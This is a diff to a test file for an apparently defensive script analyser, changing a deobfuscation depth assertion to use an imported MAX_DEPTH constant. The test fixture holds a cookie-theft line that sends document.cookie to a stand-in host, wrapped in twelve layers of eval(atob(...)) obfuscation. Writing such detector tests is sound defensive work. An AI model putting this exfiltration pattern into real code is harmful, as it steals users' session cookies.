@@ -1,5 +1,6 @@
 import { describe, expect, it } from 'vitest'
 import { factsOf } from './detector/facts-of.ts'
+import { MAX_DEPTH } from '../../detector/deobfuscate/layers.ts'
 import { obfuscatorBase64, obfuscatorRc4 } from '../../detector/deobfuscate/obfuscator-codec.ts'
 import { lineStarts, positionIn, splice } from '../../detector/deobfuscate/splice.ts'
 import { analyzeScript } from '../../detector/index.ts'
@@ -53,7 +54,7 @@ describe('static deobfuscation recovers strings', () => {
     let src = `fetch('https://x.test/'+document.cookie)`
     for (let i = 0; i < 12; i++) src = `eval(atob('${Buffer.from(src).toString('base64')}'))`
     const facts = factsOf(src)
-    expect(facts.layers.length).toBeLessThanOrEqual(4)
+    expect(facts.layers.length).toBeLessThanOrEqual(MAX_DEPTH + 1)
     expect(analyzeScript(src).findings.length).toBeGreaterThanOrEqual(0)
   })
 })
